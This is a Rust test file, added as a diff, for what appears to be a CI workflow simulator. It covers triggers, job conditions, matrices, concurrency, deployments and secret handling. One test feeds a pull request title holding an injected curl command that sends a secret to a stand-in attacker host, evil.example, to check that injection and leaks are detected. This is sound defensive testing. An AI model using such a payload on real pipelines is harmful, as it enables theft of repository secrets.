@@ -1,0 +1,856 @@
+//! One event each: what runs, what is skipped, what goes live.
+
+use std::collections::BTreeSet;
+use std::fmt::Write;
+
+use proptest::prelude::*;
+
+use super::*;
+use crate::finding::Severity;
+use crate::workflow::read;
+
+fn commit(letter: char) -> Commit {
+    Commit {
+        sha: String::from(letter).repeat(40),
+        ..Commit::default()
+    }
+}
+
+fn push(branch: &str) -> Event {
+    let branch = branch.to_owned();
+    Event::new(Kind::Push { branch }, commit('a'))
+}
+
+fn request(fork: bool) -> Event {
+    let kind = Kind::PullRequest {
+        base: "main".to_owned(),
+        head: "topic".to_owned(),
+        fork,
+        action: "opened".to_owned(),
+        title: "Fix".to_owned(),
+    };
+    let mut event = Event::new(kind, commit('f'));
+    event.commit.foreign = fork;
+    event
+}
+
+fn at(at_ms: u64, what: What) -> Happening {
+    Happening { at_ms, what }
+}
+
+fn play(text: &str, settings: &Settings, happenings: &[Happening]) -> Outcome {
+    let (workflow, findings) = read(text);
+    let errors: Vec<_> = findings
+        .iter()
+        .filter(|finding| finding.severity == Severity::Error)
+        .map(ToString::to_string)
+        .collect();
+    assert!(errors.is_empty(), "{errors:?} in\n{text}");
+    Plan::new(&workflow).run(settings, happenings)
+}
+
+fn once(text: &str, event: Event) -> Outcome {
+    play(text, &Settings::default(), &[at(0, What::Event(event))])
+}
+
+/// `job=conclusion` for each, in the order of their names.
+fn told(outcome: &Outcome) -> String {
+    let jobs = outcome.runs.iter().flat_map(|run| &run.jobs);
+    let told: BTreeSet<String> = jobs
+        .map(|job| format!("{}={}", job.label, job.conclusion.as_str()))
+        .collect();
+    told.into_iter().collect::<Vec<_>>().join(" ")
+}
+
+fn jobs(on: &str, jobs: &str) -> String {
+    let mut text = format!("on: {on}\njobs:\n");
+    for job in jobs.split(';').map(str::trim).filter(|job| !job.is_empty()) {
+        let (id, rest) = job.split_once(':').unwrap();
+        write!(text, "  {}:\n    runs-on: ubuntu-latest\n", id.trim()).unwrap();
+        let mut run = "true";
+        for setting in rest
+            .split(" | ")
+            .map(str::trim)
+            .filter(|setting| !setting.is_empty())
+        {
+            match setting.strip_prefix("run ") {
+                Some(script) => run = script,
+                None => writeln!(text, "    {setting}").unwrap(),
+            }
+        }
+        write!(text, "    steps:\n      - run: {run}\n").unwrap();
+    }
+    text
+}
+
+#[test]
+fn filters_decide_what_starts_a_run() {
+    let mut docs = push("main");
+    docs.changed = Some(vec!["docs/a.md".to_owned()]);
+    let mut code = push("main");
+    code.changed = Some(vec!["docs/a.md".to_owned(), "app.py".to_owned()]);
+    let mut skipped = push("main");
+    skipped.commit.message = "Typo [skip ci]".to_owned();
+    let tag = || {
+        Event::new(
+            Kind::Tag {
+                tag: "v1.4.0".to_owned(),
+            },
+            commit('a'),
+        )
+    };
+    let closed = || {
+        let mut event = request(false);
+        if let Kind::PullRequest { action, .. } = &mut event.kind {
+            "closed".clone_into(action);
+        }
+        event
+    };
+    let clock = |cron: &str| {
+        let cron = Some(cron.to_owned());
+        Event::new(Kind::Schedule { cron }, commit('a'))
+    };
+    for (on, event, starts) in [
+        ("push", push("main"), true),
+        ("[pull_request]", push("main"), false),
+        ("{push: {branches: [main]}}", push("topic"), false),
+        (
+            "{push: {branches: ['release/**', '!release/old']}}",
+            push("release/old"),
+            false,
+        ),
+        ("{push: {branches-ignore: [wip]}}", push("main"), true),
+        ("{push: {branches: [main]}}", tag(), false),
+        ("{push: {tags: ['v*']}}", tag(), true),
+        ("{push: {tags: ['v*']}}", push("main"), false),
+        (
+            "{push: {branches: [main], tags: ['v*']}}",
+            push("main"),
+            true,
+        ),
+        ("{push: {tags: ['v*'], paths: [nothing]}}", tag(), true),
+        ("{push: {paths-ignore: ['docs/**']}}", docs.clone(), false),
+        ("{push: {paths-ignore: ['docs/**']}}", code.clone(), true),
+        ("{push: {paths: ['**.py']}}", docs, false),
+        ("{push: {branches: [topic], paths: ['**.py']}}", code, false),
+        ("push", skipped, false),
+        ("pull_request", request(true), true),
+        ("pull_request_target", request(true), true),
+        ("{pull_request: {branches: [topic]}}", request(false), false),
+        ("pull_request", closed(), false),
+        ("{pull_request: {types: [closed]}}", closed(), true),
+        (
+            "{schedule: [{cron: '0 6 * * 1'}]}",
+            clock("0 6 * * 1"),
+            true,
+        ),
+        (
+            "{schedule: [{cron: '0 6 * * 1'}]}",
+            clock("0 7 * * 1"),
+            false,
+        ),
+    ] {
+        let text = jobs(on, "a:");
+        let outcome = once(&text, event);
+        assert_eq!(!outcome.runs.is_empty(), starts, "{on}");
+    }
+}
+
+#[test]
+fn needs_and_conditions_decide_what_runs() {
+    for (text, expected) in [
+        ("a: ; b: needs: a", "a=success b=success"),
+        (
+            "a: run false; b: needs: a; c:",
+            "a=failure b=skipped c=success",
+        ),
+        (
+            "a: run false; b: needs: a | if: always()",
+            "a=failure b=success",
+        ),
+        (
+            "a: run false; b: needs: a | if: failure(); c: if: failure()",
+            "a=failure b=success c=skipped",
+        ),
+        (
+            "a: run false; b: needs: a; c: needs: b | if: failure()",
+            "a=failure b=skipped c=success",
+        ),
+        // What follows a skipped job is skipped, even behind one that ran all the same.
+        (
+            "a: if: false; b: needs: a | if: always(); c: needs: b",
+            "a=skipped b=success c=skipped",
+        ),
+        (
+            "a: if: false; b: needs: a | if: always(); c: needs: b | if: needs.b.result == 'success' && !cancelled()",
+            "a=skipped b=success c=success",
+        ),
+        (
+            "a: if: github.ref == 'refs/heads/main'; b: if: github.event_name == 'pull_request'",
+            "a=success b=skipped",
+        ),
+        (
+            "a: run false | continue-on-error: true; b: needs: a",
+            "a=failure b=success",
+        ),
+        (
+            "a: run false || true; b: run exit 3; c: run false && true",
+            "a=success b=failure c=failure",
+        ),
+        ("a: if: success() || github.nothing.here", "a=success"),
+    ] {
+        let text = jobs("push", text);
+        assert_eq!(told(&once(&text, push("main"))), expected, "{text}");
+    }
+}
+
+#[test]
+fn a_pipe_hides_a_failure() {
+    let text = jobs("push", "a:").replace("run: true", "run: 'false | tee log'");
+    assert_eq!(told(&once(&text, push("main"))), "a=success");
+}
+
+const STEPS: &str = "
+on: push
+jobs:
+  a:
+    runs-on: ubuntu-latest
+    outputs:
+      tag: ${{ steps.make.outputs.tag }}
+    steps:
+      - id: make
+        run: echo \"tag=v${{ 1 == 1 }}-$PART\" >> \"$GITHUB_OUTPUT\"
+        env:
+          PART: x
+      - id: bad
+        run: 'false'
+        continue-on-error: true
+      - if: steps.bad.outcome == 'failure' && steps.bad.conclusion == 'success'
+        run: 'true'
+      - if: failure()
+        run: 'true'
+  b:
+    needs: a
+    if: needs.a.outputs.tag == 'vtrue-x'
+    runs-on: ubuntu-latest
+    steps:
+      - run: exit 2
+      - run: 'true'
+      - if: always()
+        run: 'true'
+      - if: cancelled()
+        run: 'true'
+";
+
+#[test]
+fn steps_see_what_steps_before_them_did() {
+    let outcome = once(STEPS, push("main"));
+    let steps = |job: usize| -> Vec<&str> {
+        let steps = &outcome.runs[0].jobs[job].steps;
+        steps.iter().map(|step| step.conclusion.as_str()).collect()
+    };
+    assert_eq!(steps(0), ["success", "success", "success", "skipped"]);
+    assert_eq!(steps(1), ["failure", "skipped", "success", "skipped"]);
+    assert_eq!(told(&outcome), "a=success b=failure");
+    let (workflow, _) = read(STEPS);
+    let log = log::lines(&Plan::new(&workflow), &outcome.runs[0].jobs[1], &[]);
+    let texts: Vec<&str> = log.iter().map(|line| line.text.as_str()).collect();
+    assert_eq!(texts[0], "##[group]Run exit 2");
+    assert!(texts.contains(&"##[error]Process completed with exit code 2."));
+}
+
+fn matrix(strategy: &str, script: &str) -> String {
+    format!(
+        "on: push\njobs:\n  set:\n    runs-on: ubuntu-latest\n    outputs:\n      list: '[7, 8]'\n    steps:\n      - run: 'true'\n  test:\n    needs: set\n    runs-on: ubuntu-latest\n    strategy: {strategy}\n    steps:\n      - run: {script}\n  after:\n    needs: test\n    runs-on: ubuntu-latest\n    steps:\n      - run: 'true'\n"
+    )
+}
+
+#[test]
+fn a_matrix_runs_a_job_in_cells() {
+    for (strategy, cells) in [
+        (
+            "{matrix: {v: [3.10, '3.11']}}",
+            "test (3.1)=success test (3.11)=success",
+        ),
+        (
+            "{matrix: {a: [1, 2], b: [x], exclude: [{a: 2}]}}",
+            "test (1, x)=success",
+        ),
+        (
+            "{matrix: {a: [1], include: [{a: 1, c: z}, {a: 5}]}}",
+            "test (1, z)=success test (5)=success",
+        ),
+        (
+            "{matrix: {v: '${{ fromJSON(needs.set.outputs.list) }}'}}",
+            "test (7)=success test (8)=success",
+        ),
+        ("{matrix: {v: '${{ fromJSON(1) }}'}}", "test=failure"),
+    ] {
+        let text = matrix(strategy, "'true'");
+        let outcome = once(&text, push("main"));
+        let told = told(&outcome);
+        assert!(told.contains(cells), "{strategy}: {told}");
+    }
+    let one = |strategy: &str, continues: bool| {
+        let mut text = matrix(strategy, "sleep ${{ matrix.v }}0 && pytest");
+        if continues {
+            text = text.replace(
+                "    strategy:",
+                "    continue-on-error: true\n    strategy:",
+            );
+        }
+        let mut settings = Settings::default();
+        settings.fail.insert("test (1)".to_owned());
+        told(&play(&text, &settings, &[at(0, What::Event(push("main")))]))
+    };
+    let quick = one("{matrix: {v: [1, 2, 3]}}", false);
+    assert_eq!(
+        quick,
+        "after=skipped set=success test (1)=failure test (2)=cancelled test (3)=cancelled"
+    );
+    let slow = one("{fail-fast: false, matrix: {v: [1, 2]}}", false);
+    assert!(
+        slow.starts_with("after=skipped set=success test (1)=failure test (2)=failure"),
+        "{slow}"
+    );
+    let continued = one("{matrix: {v: [1]}}", true);
+    assert_eq!(continued, "after=success set=success test (1)=failure");
+}
+
+#[test]
+fn max_parallel_and_runners_make_jobs_wait() {
+    let text = matrix("{max-parallel: 1, matrix: {v: [1, 2, 3]}}", "sleep 10");
+    let ends = |outcome: &Outcome| -> Vec<u64> {
+        let jobs = outcome.runs[0].jobs.iter();
+        jobs.filter(|job| job.label.starts_with("test"))
+            .map(|job| job.start_ms)
+            .collect()
+    };
+    let starts = ends(&once(&text, push("main")));
+    assert_eq!(starts[1] - starts[0], 12_000);
+    assert_eq!(starts[2] - starts[1], 12_000);
+    let mut settings = Settings {
+        runners: 1,
+        ..Settings::default()
+    };
+    let text = jobs("push", "a: run sleep 5; b: run sleep 5");
+    let events = [at(0, What::Event(push("main")))];
+    let outcome = play(&text, &settings, &events);
+    assert_eq!(outcome.runs[0].jobs[1].start_ms, 7_000);
+    assert_eq!(outcome.minutes(), 2);
+    settings.runners = 2;
+    let outcome = play(&text, &settings, &events);
+    assert_eq!(outcome.runs[0].jobs[1].start_ms, 0);
+}
+
+const ROAD: &str = "
+on:
+  push: {branches: [main]}
+  pull_request:
+permissions:
+  contents: read
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: pip install -r requirements.txt
+      - run: pytest tests/page
+  build:
+    needs: test
+    runs-on: ubuntu-latest
+    permissions:
+      contents: read
+      packages: write
+    steps:
+      - uses: actions/checkout@v4
+      - uses: docker/login-action@v3
+        with:
+          registry: ghcr.io
+          username: ${{ github.actor }}
+          password: ${{ secrets.GITHUB_TOKEN }}
+      - uses: docker/build-push-action@v6
+        with:
+          push: true
+          tags: ghcr.io/octo-org/app:${{ github.sha }}
+  deploy:
+    needs: build
+    if: github.ref == 'refs/heads/main'
+    environment: production
+    runs-on: ubuntu-latest
+    steps:
+      - run: gcloud run deploy app --image ghcr.io/octo-org/app:${{ github.sha }}
+      - run: curl -f https://app.example/_stcore/health
+";
+
+fn broken(change: impl Fn(&mut Commit)) -> Event {
+    let mut event = push("main");
+    change(&mut event.commit);
+    event
+}
+
+#[test]
+fn what_was_checked_and_built_goes_live() {
+    let outcome = once(ROAD, push("main"));
+    assert_eq!(told(&outcome), "build=success deploy=success test=success");
+    let live = outcome.live_at(u64::MAX);
+    let deploy = live["production"];
+    assert_eq!(deploy.what, Deployed::Image(0));
+    assert!(deploy.checks.tests.meets(Parts::PAGE));
+    assert_eq!(
+        outcome.pushes[0].tag,
+        format!("ghcr.io/octo-org/app:{}", "a".repeat(40))
+    );
+    assert!(outcome.images[0].checks.smoke);
+    assert_eq!(
+        outcome.images[0].digest,
+        once(ROAD, push("main")).images[0].digest
+    );
+}
+
+#[test]
+fn a_check_stops_what_waits_for_it_and_only_sees_what_it_opens() {
+    let page = |commit: &mut Commit| commit.broken = Parts::PAGE;
+    assert!(once(ROAD, broken(page)).deploys.is_empty());
+    let blind = ROAD.replace("tests/page", "tests/unit");
+    assert_eq!(once(&blind, broken(page)).deploys.len(), 1);
+    for (change, outcome) in [
+        (
+            (|commit: &mut Commit| commit.build_fails = true) as fn(&mut Commit),
+            "build=failure deploy=skipped test=success",
+        ),
+        (
+            |commit| commit.conflict = true,
+            "build=skipped deploy=skipped test=failure",
+        ),
+        (
+            |commit| commit.smoke_fails = true,
+            "build=success deploy=failure test=success",
+        ),
+    ] {
+        assert_eq!(told(&once(ROAD, broken(change))), outcome);
+    }
+}
+
+#[test]
+fn a_job_only_has_what_it_fetched_and_may_do() {
+    for (from, to, conclusion) in [
+        (
+            "      - uses: actions/checkout@v4\n      - run: pip",
+            "      - run: pip",
+            "test=failure",
+        ),
+        ("      packages: write\n", "", "build=failure"),
+        (
+            "secrets.GITHUB_TOKEN",
+            "secrets.GHCR_TOKEN",
+            "build=failure",
+        ),
+        ("tags: ghcr.io/octo-org/app:", "tags: app:", "build=failure"),
+        (
+            "--image ghcr.io/octo-org/app:${{ github.sha }}",
+            "--image ghcr.io/octo-org/app:latest",
+            "deploy=failure",
+        ),
+        ("contents: read\njobs", "issues: read\njobs", "test=failure"),
+    ] {
+        assert!(ROAD.contains(from), "{from}");
+        let text = ROAD.replace(from, to);
+        let told = told(&once(&text, push("main")));
+        assert!(told.contains(conclusion), "{from}: {told}");
+    }
+}
+
+#[test]
+fn a_fork_gets_no_secrets_and_cannot_write() {
+    let settings = || {
+        let mut settings = Settings::default();
+        settings
+            .secrets
+            .insert("KEY".to_owned(), "s3cr3t".to_owned());
+        settings
+    };
+    let text = jobs("pull_request", "a: run test").replace(
+        "- run: test",
+        "- if: env.KEY == ''\n        run: exit 9\n      - uses: actions/checkout@v4\n      - run: pytest",
+    );
+    let text = text.replace(
+        "    steps:",
+        "    env:\n      KEY: ${{ secrets.KEY }}\n    steps:",
+    );
+    let events = |fork| [at(0, What::Event(request(fork)))];
+    assert_eq!(told(&play(&text, &settings(), &events(true))), "a=failure");
+    assert_eq!(told(&play(&text, &settings(), &events(false))), "a=success");
+    let forked = play(ROAD, &settings(), &events(true));
+    assert_eq!(told(&forked), "build=failure deploy=skipped test=success");
+    assert!(forked.runs[0].leaks.is_empty());
+    // The base's own workflow has the secrets, and runs what the stranger wrote.
+    let target = text.replace("on: pull_request", "on: pull_request_target");
+    let base = play(&target, &settings(), &events(true));
+    assert!(base.runs[0].leaks.is_empty());
+    let head = target.replace(
+        "checkout@v4",
+        "checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}",
+    );
+    let taken = play(&head, &settings(), &events(true));
+    assert_eq!(taken.runs[0].leaks[0].secret, "KEY");
+}
+
+#[test]
+fn a_strangers_title_can_become_a_command() {
+    let text = jobs("pull_request_target", "a:").replace(
+        "run: true",
+        "run: echo \"${{ github.event.pull_request.title }}\"\n        env:\n          KEY: ${{ secrets.KEY }}",
+    );
+    let mut settings = Settings::default();
+    settings
+        .secrets
+        .insert("KEY".to_owned(), "s3cr3t".to_owned());
+    let titled = |words: &str| {
+        let mut event = request(true);
+        if let Kind::PullRequest { title, .. } = &mut event.kind {
+            words.clone_into(title);
+        }
+        play(&text, &settings, &[at(0, What::Event(event))])
+    };
+    let evil = titled("x\"; curl https://evil.example?k=$KEY #");
+    assert!(evil.runs[0].injected);
+    assert!(evil.runs[0].leaks.iter().any(|leak| leak.secret == "KEY"));
+    assert!(!titled("Mend the page").runs[0].injected);
+    let by_variable = text
+        .replace("${{ github.event.pull_request.title }}", "$TITLE")
+        .replace(
+            "env:\n",
+            "env:\n          TITLE: ${{ github.event.pull_request.title }}\n",
+        );
+    let mut event = request(true);
+    if let Kind::PullRequest { title, .. } = &mut event.kind {
+        "x\"; curl https://evil.example?k=$KEY #".clone_into(title);
+    }
+    let safe = play(&by_variable, &settings, &[at(0, What::Event(event))]);
+    assert!(!safe.runs[0].injected);
+}
+
+#[test]
+fn a_concurrency_group_lets_one_run_and_one_wait() {
+    let text = |cancel: bool| {
+        jobs("push", "a: run sleep 60").replace(
+            "jobs:",
+            &format!("concurrency:\n  group: deploy-${{{{ github.ref }}}}\n  cancel-in-progress: {cancel}\njobs:"),
+        )
+    };
+    let events: Vec<Happening> = [0, 10_000, 20_000]
+        .map(|ms| at(ms, What::Event(push("main"))))
+        .into();
+    let conclusions = |outcome: &Outcome| -> Vec<&str> {
+        outcome
+            .runs
+            .iter()
+            .map(|run| run.conclusion.as_str())
+            .collect()
+    };
+    let waits = play(&text(false), &Settings::default(), &events);
+    assert_eq!(conclusions(&waits), ["success", "cancelled", "success"]);
+    assert_eq!(waits.runs[2].jobs[0].start_ms, 62_000);
+    let cancels = play(&text(true), &Settings::default(), &events);
+    assert_eq!(conclusions(&cancels), ["cancelled", "cancelled", "success"]);
+    assert_eq!(cancels.runs[2].jobs[0].start_ms, 20_000);
+    assert_eq!(cancels.runs[0].jobs[0].end_ms, 10_000);
+    // Groups of jobs work the same way; another branch is another group.
+    let job = jobs("push", "a: run sleep 60 | concurrency: prod");
+    let jobs = play(&job, &Settings::default(), &events);
+    assert_eq!(conclusions(&jobs), ["success", "cancelled", "success"]);
+    let other = [events[0].clone(), at(5_000, What::Event(push("topic")))];
+    let apart = play(&text(false), &Settings::default(), &other);
+    assert_eq!(apart.runs[1].jobs[0].start_ms, 5_000);
+}
+
+#[test]
+fn a_cancelled_deployment_is_half_done_and_its_cleaning_up_runs() {
+    let text = ROAD.replace(
+        "jobs:\n",
+        "concurrency: {group: x, cancel-in-progress: true}\njobs:\n",
+    ) + "      - if: cancelled()\n        run: gh issue create\n";
+    let first = once(&text, push("main"));
+    let deploying = first.runs[0].jobs[2].start_ms + 10_000;
+    let mut second = push("main");
+    second.commit = commit('c');
+    second.commit.build_fails = true;
+    let outcome = play(
+        &text,
+        &Settings::default(),
+        &[
+            at(0, What::Event(push("main"))),
+            at(deploying, What::Event(second)),
+        ],
+    );
+    assert_eq!(outcome.deploys[0].what, Deployed::Half);
+    assert_eq!(outcome.runs[0].conclusion, Conclusion::Cancelled);
+    let steps = &outcome.runs[0].jobs[2].steps;
+    let steps: Vec<&str> = steps.iter().map(|step| step.conclusion.as_str()).collect();
+    assert_eq!(steps, ["cancelled", "skipped", "success"]);
+    assert_eq!(outcome.notices, [(deploying + 500, 0)]);
+}
+
+#[test]
+fn reviewers_and_branches_guard_an_environment() {
+    let mut settings = Settings::default();
+    let guarded = Environment {
+        reviewers: true,
+        branches: vec!["main".to_owned()],
+        ..Environment::default()
+    };
+    settings
+        .environments
+        .insert("production".to_owned(), guarded);
+    let text = ROAD
+        .replace("    if: github.ref == 'refs/heads/main'\n", "")
+        .replace("branches: [main]", "branches: ['**']");
+    let review = |approved| {
+        let review = What::Review {
+            event: 0,
+            environment: "production".to_owned(),
+            approved,
+        };
+        [at(0, What::Event(push("main"))), at(600_000, review)]
+    };
+    let yes = play(&text, &settings, &review(true));
+    assert_eq!(told(&yes), "build=success deploy=success test=success");
+    assert_eq!(yes.runs[0].jobs[2].start_ms, 600_000);
+    let no = play(&text, &settings, &review(false));
+    assert_eq!(no.runs[0].jobs[2].reason, Reason::Rejected);
+    let nobody = play(&text, &settings, &review(true)[..1]);
+    assert_eq!(nobody.runs[0].jobs[2].reason, Reason::Unreviewed);
+    assert!(nobody.deploys.is_empty());
+    let other = play(&text, &settings, &[at(0, What::Event(push("topic")))]);
+    assert_eq!(other.runs[0].jobs[2].reason, Reason::Protected);
+}
+
+#[test]
+fn failed_jobs_run_again_without_what_went_well() {
+    let first = once(ROAD, push("main"));
+    let deploying = first.runs[0].jobs[2].start_ms + 1_000;
+    let happenings = [
+        at(0, What::Event(push("main"))),
+        at(deploying, What::LoseRunner(0, "deploy".to_owned())),
+        at(deploying + 60_000, What::RerunFailed(0)),
+    ];
+    let outcome = play(ROAD, &Settings::default(), &happenings);
+    assert_eq!(outcome.images.len(), 1);
+    let attempts: Vec<(&str, u32, Reason)> = outcome.runs[0]
+        .jobs
+        .iter()
+        .map(|job| (job.label.as_str(), job.attempt, job.reason))
+        .collect();
+    assert_eq!(
+        attempts,
+        [
+            ("test", 1, Reason::Steps),
+            ("build", 1, Reason::Steps),
+            ("deploy", 1, Reason::RunnerLost),
+            ("deploy", 2, Reason::Steps),
+        ]
+    );
+    assert_eq!(
+        outcome.live_at(u64::MAX)["production"].what,
+        Deployed::Image(0)
+    );
+    assert_eq!(outcome.runs[0].conclusion, Conclusion::Success);
+}
+
+#[test]
+fn a_failed_smoke_test_can_roll_back() {
+    let text = ROAD.to_owned()
+        + "  back:
+    needs: deploy
+    if: failure()
+    environment: production
+    runs-on: ubuntu-latest
+    steps:
+      - run: kubectl rollout undo deployment/app
+      - run: 'curl -X POST https://hooks.slack.com/services/x -d down'
+";
+    let mut bad = push("main");
+    bad.commit = commit('c');
+    bad.commit.smoke_fails = true;
+    let events = [
+        at(0, What::Event(push("main"))),
+        at(600_000, What::Event(bad)),
+    ];
+    let outcome = play(&text, &Settings::default(), &events);
+    let live = outcome.live_at(u64::MAX)["production"];
+    assert!(live.rollback);
+    assert_eq!(live.what, Deployed::Image(0));
+    assert_eq!(outcome.notices.len(), 1);
+    let forgotten = text.replace("    if: failure()\n", "");
+    let stays = play(&forgotten, &Settings::default(), &events);
+    assert_eq!(
+        stays.live_at(u64::MAX)["production"].what,
+        Deployed::Image(1)
+    );
+}
+
+#[test]
+fn artifacts_and_images_move_only_when_they_are_carried() {
+    let text = "
+on: push
+jobs:
+  build:
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/checkout@v4
+      - run: docker build -t app:1 .
+      - run: docker save app:1 -o /tmp/app.tar
+      - uses: actions/upload-artifact@v4
+        with: {name: image, path: /tmp/app.tar}
+  ship:
+    needs: build
+    runs-on: ubuntu-latest
+    steps:
+      - uses: actions/download-artifact@v4
+        with: {name: image}
+      - run: docker load -i app.tar
+      - run: docker tag app:1 ghcr.io/o/app:1
+      - run: docker login ghcr.io -u me -p ${{ secrets.KEY }}
+      - run: docker push ghcr.io/o/app:1
+";
+    let mut settings = Settings::default();
+    settings.secrets.insert("KEY".to_owned(), "k".to_owned());
+    let events = [at(0, What::Event(push("main")))];
+    let outcome = play(text, &settings, &events);
+    assert_eq!(told(&outcome), "build=success ship=success");
+    assert_eq!((outcome.images.len(), outcome.pushes.len()), (1, 1));
+    for (from, to) in [
+        ("      - run: docker load -i app.tar\n", ""),
+        (
+            "name: image}\n      - run: docker load",
+            "name: other}\n      - run: docker load",
+        ),
+        ("secrets.KEY", "secrets.KYE"),
+        (
+            "      - run: docker tag app:1 ghcr.io/o/app:1\n      - run: docker login",
+            "      - run: docker login",
+        ),
+    ] {
+        assert!(text.contains(from), "{from}");
+        let told = told(&play(&text.replace(from, to), &settings, &events));
+        let carried = from.contains("docker tag");
+        assert_eq!(told.contains("ship=failure"), !carried, "{from}: {told}");
+    }
+}
+
+#[test]
+fn time_limits_end_steps_and_jobs() {
+    let text = jobs("push", "a: run sleep 120 | timeout-minutes: 1; b: run sleep 120").replace(
+        "  b:\n    runs-on: ubuntu-latest\n    steps:\n      - run: sleep 120",
+        "  b:\n    runs-on: ubuntu-latest\n    steps:\n      - timeout-minutes: 1\n        run: sleep 120",
+    );
+    let outcome = once(&text, push("main"));
+    assert_eq!(told(&outcome), "a=cancelled b=failure");
+    assert_eq!(outcome.runs[0].jobs[0].reason, Reason::Timeout);
+    assert_eq!(outcome.runs[0].jobs[0].end_ms, 60_000);
+}
+
+#[test]
+fn unknown_tools_succeed_and_are_named() {
+    let text = jobs("push", "a: run frobnicate --all")
+        .replace("    steps:\n", "    steps:\n      - uses: acme/deploy@v1\n");
+    let outcome = once(&text, push("main"));
+    assert_eq!(told(&outcome), "a=success");
+    let codes: Vec<&str> = outcome
+        .findings
+        .iter()
+        .map(|finding| finding.code)
+        .collect();
+    assert_eq!(
+        codes,
+        ["workflow-action-unknown", "workflow-command-unknown"]
+    );
+}
+
+#[test]
+fn jobs_in_a_circle_or_in_vain_end() {
+    let text = jobs("push", "a: needs: b; b: needs: a; c: needs: nobody; d:");
+    let (workflow, _) = read(&text);
+    let outcome =
+        Plan::new(&workflow).run(&Settings::default(), &[at(0, What::Event(push("main")))]);
+    assert!(told(&outcome).contains("c=skipped d=success"));
+}
+
+/// Random workflows, right and wrong.
+fn workflows() -> impl Strategy<Value = String> {
+    let lines = prop::sample::select(vec![
+        "needs: a",
+        "needs: [a, b]",
+        "if: always()",
+        "if: failure()",
+        "if: needs.a.result == 'x'",
+        "if: ${{ }}",
+        "environment: production",
+        "concurrency: x",
+        "continue-on-error: true",
+        "timeout-minutes: 0",
+        "timeout-minutes: ${{ 1 }}",
+        "strategy: {matrix: {v: [1, 2]}}",
+        "strategy: {max-parallel: 1, matrix: {v: '${{ fromJSON(1) }}'}}",
+        "uses: ./x.yml",
+        "permissions: {}",
+        "outputs: {x: '${{ matrix.v }}'}",
+        "env: {A: '${{ env.A }}'}",
+    ]);
+    let steps = prop::sample::select(vec![
+        "run: exit 1",
+        "uses: actions/checkout@v4",
+        "run: docker build -t $A . && docker push $A",
+        "run: 'echo \"x=1\" >> $GITHUB_OUTPUT'",
+        "uses: docker/build-push-action@v6",
+        "run: \"'\"",
+        "run: 'kubectl rollout undo x || curl -f y; sleep 9m'",
+        "uses: a/b@c",
+        "id: x",
+        "run: '$(('",
+        "uses: actions/cache@v4",
+        "run: gcloud run deploy",
+        "run: '${{ github.event }}'",
+    ]);
+    let job = (
+        prop::collection::vec(lines, 0..4),
+        prop::collection::vec(steps, 0..4),
+    );
+    prop::collection::vec(job, 1..6).prop_map(|jobs| {
+        let mut text = "on: [push, pull_request, workflow_dispatch]\njobs:\n".to_owned();
+        for (place, (lines, steps)) in jobs.into_iter().enumerate() {
+            let id = char::from(b'a' + u8::try_from(place).unwrap());
+            write!(text, "  {id}:\n    runs-on: ubuntu-latest\n").unwrap();
+            for line in lines {
+                writeln!(text, "    {line}").unwrap();
+            }
+            text.push_str("    steps:\n");
+            for step in steps {
+                writeln!(text, "      - {step}").unwrap();
+            }
+        }
+        text
+    })
+}
+
+proptest! {
+    #[test]
+    fn every_workflow_comes_to_an_end(text in workflows(), fork in any::<bool>(), runners in 0_u32..3) {
+        let (workflow, _) = read(&text);
+        let settings = Settings { runners, ..Settings::default() };
+        let happenings = [
+            at(0, What::Event(push("main"))),
+            at(5_000, What::Event(request(fork))),
+            at(6_000, What::LoseRunner(0, "a".to_owned())),
+            at(9_000, What::Cancel(1)),
+            at(90_000_000, What::RerunFailed(0)),
+        ];
+        let outcome = Plan::new(&workflow).run(&settings, &happenings);
+        for job in outcome.runs.iter().flat_map(|run| &run.jobs) {
+            prop_assert!(job.queued_ms <= job.end_ms && job.start_ms <= job.end_ms);
+            let _ = log::lines(&Plan::new(&workflow), job, &["s"]);
+        }
+        prop_assert_eq!(&Plan::new(&workflow).run(&settings, &happenings), &outcome);
+    }
+}
